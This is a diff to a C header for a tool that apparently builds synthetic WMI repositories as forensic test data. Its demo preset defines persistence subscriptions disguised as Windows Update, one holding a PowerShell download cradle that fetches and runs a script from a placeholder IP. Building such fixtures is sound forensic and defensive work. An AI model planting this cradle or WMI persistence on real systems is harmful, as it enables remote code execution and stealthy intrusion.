@@ -275,12 +275,14 @@ int cimgen_write(cimgen_model *m, const char *dir, const cimgen_opts *opts, cimg
 
 /* --- presets ----------------------------------------------------------- */
 
-/* What every real repository has that matters here: __SystemClass with
+/* What every real repository has that matters here (namespace names in
+ * lower case; Windows itself stores "CIMV2" and "DEFAULT", and names are
+ * compared without case): __SystemClass with
  * __SystemClass, __NAMESPACE, __Provider, __Win32Provider,
  * __IndicationRelated, __EventFilter, __EventConsumer,
  * __FilterToConsumerBinding; namespaces root, root\subscription,
- * root\CIMV2, root\DEFAULT; the standard consumer classes in
- * root\subscription and root\DEFAULT; in root\subscription the default SCM
+ * root\cimv2, root\default; the standard consumer classes in
+ * root\subscription and root\default; in root\subscription the default SCM
  * Event Log filter, consumer and binding. Timestamps are fixed. */
 void cimgen_windows_defaults(cimgen_model *m);
 
@@ -304,18 +306,18 @@ cimgen_inst *cimgen_add_subscription(cimgen_model *m, const char *ns, const char
 
 /* The content of `wh-cimgen demo`: the Windows defaults, plus in
  * root\subscription a CommandLineEventConsumer subscription running an
- * encoded PowerShell download cradle, in root\DEFAULT an
- * ActiveScriptEventConsumer subscription, and in root\CIMV2 a class
+ * encoded PowerShell download cradle, in root\default an
+ * ActiveScriptEventConsumer subscription, and in root\cimv2 a class
  * Win32_AuditCode whose default holds a payload big enough to span pages. */
 void cimgen_demo(cimgen_model *m);
 #define CIMGEN_DEMO_CMD_FILTER "WindowsUpdateFilter"
 #define CIMGEN_DEMO_CMD_CONSUMER "WindowsUpdateConsumer"
 #define CIMGEN_DEMO_CMD_ENCODED "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')"
-#define CIMGEN_DEMO_AS_NS "root\\DEFAULT"
+#define CIMGEN_DEMO_AS_NS "root\\default"
 #define CIMGEN_DEMO_AS_FILTER "UserLogonTrigger"
 #define CIMGEN_DEMO_AS_CONSUMER "UserLogonScript"
 
-/* What `wh-cimgen deleted` does after cimgen_demo: the root\DEFAULT
+/* What `wh-cimgen deleted` does after cimgen_demo: the root\default
  * ActiveScript binding is left in page slack, its consumer in an
  * unallocated page, its filter in a page only an older mapping maps. */
 void cimgen_demo_delete(cimgen_model *m);
